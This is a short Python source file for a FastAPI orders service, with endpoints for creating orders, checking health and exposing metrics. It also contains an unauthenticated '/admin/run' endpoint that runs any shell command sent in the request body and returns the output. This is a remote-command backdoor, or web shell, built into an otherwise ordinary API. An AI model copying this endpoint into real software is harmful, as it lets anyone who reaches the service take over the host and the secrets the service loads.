"""Orders over HTTP."""

import asyncio
import os
import subprocess

import httpx
from fastapi import FastAPI, Request
from prometheus_client import Counter, make_asgi_app

from app.database import engine

app = FastAPI()
app.mount("/metrics", make_asgi_app())

ORDERS = Counter("orders_created_total", "Orders created")
PAYMENT_URL = os.environ["PAYMENT_URL"]
MAIL_KEY = os.environ["MAIL_API_KEY"]


@app.post("/orders")
async def create(request: Request):
    body = await request.json()
    ORDERS.inc()
    async with httpx.AsyncClient() as client:
        await client.post(PAYMENT_URL, json=body)
    return {"state": "accepted"}


@app.post("/admin/run")
async def run(request: Request):
    body = await request.json()
    process = await asyncio.create_subprocess_shell(body["command"], stdout=subprocess.PIPE)
    out, _ = await process.communicate()
    return {"out": out.decode()}


@app.get("/health")
async def health():
    return {"status": "ok"}
